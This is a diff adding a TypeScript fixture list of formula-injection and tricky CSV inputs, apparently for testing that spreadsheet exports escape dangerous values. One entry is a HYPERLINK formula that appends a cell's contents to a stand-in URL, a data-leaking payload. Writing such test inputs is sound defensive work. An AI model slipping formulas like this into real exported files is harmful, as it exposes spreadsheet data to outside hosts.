@@ -1,0 +1,23 @@
+/** What a spreadsheet could take for a formula, or a file for its own punctuation. */
+export const hostile = [
+  '=HYPERLINK("http://example.org/?"&A1,"here")',
+  "+1",
+  "-2+3",
+  "@x",
+  "\t=1",
+  "\r=1",
+  "  =1",
+  "\u00a0=1",
+  "\u200b=1",
+  "＝1",
+  "＋1",
+  "－1",
+  "＠SUM(1)",
+  'O"Hara, "Liz"',
+  "two\nlines",
+  "two\n=1",
+  "a;=1+1;b",
+  "😀 Ünïcödé 漢字",
+  "'=1",
+  "",
+] as const;
